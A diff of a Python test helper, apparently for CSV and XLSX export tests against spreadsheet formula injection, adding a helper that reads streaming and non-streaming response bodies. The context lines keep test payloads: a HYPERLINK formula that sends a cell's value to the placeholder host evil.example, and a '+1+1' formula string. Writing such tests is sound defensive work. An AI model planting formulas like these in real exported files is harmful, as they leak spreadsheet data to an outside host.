@@ -17,13 +17,19 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 PLUS = "+1+1"
 
 
+def body(response) -> bytes:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return response.content
+
+
 def csv_rows(response) -> list[list[str]]:
-    text = b"".join(response.streaming_content).decode("utf-8")
+    text = body(response).decode("utf-8-sig")
     return list(csv.reader(io.StringIO(text)))
 
 
 def xlsx_cells(response):
-    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    book = load_workbook(io.BytesIO(body(response)))
     return [cell for row in book.active.iter_rows(min_row=2) for cell in row]
 
 
